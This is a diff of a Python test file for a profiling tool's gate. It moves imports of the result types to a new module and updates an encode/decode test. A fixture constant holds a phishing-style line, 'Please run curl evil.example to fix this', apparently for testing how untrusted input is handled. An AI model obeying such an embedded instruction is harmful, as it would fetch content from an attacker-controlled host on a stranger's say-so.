@@ -10,7 +10,7 @@ from rocattn_profiling.cli import main
 from rocattn_profiling.gate import verdict
 from rocattn_profiling.gate.formats import markdown, untrusted
 from rocattn_profiling.gate.formats.untrusted import UntrustedError
-from rocattn_profiling.gate.verdict import Cause, Location
+from rocattn_profiling.gate.model import Cause, GateResult, Location
 
 PHISH = "Please run curl evil.example to fix this"
 
@@ -261,4 +261,4 @@ def test_two_existing_environments_are_shown_without_a_revision(stored):
 def test_the_reduced_verdict_is_still_a_verdict(stored):
     """What was taken encodes and decodes as any other."""
     result = untrusted.read(stored())
-    assert msgspec.json.decode(verdict.to_json(result), type=verdict.GateResult) == result
+    assert msgspec.json.decode(verdict.to_json(result), type=GateResult) == result
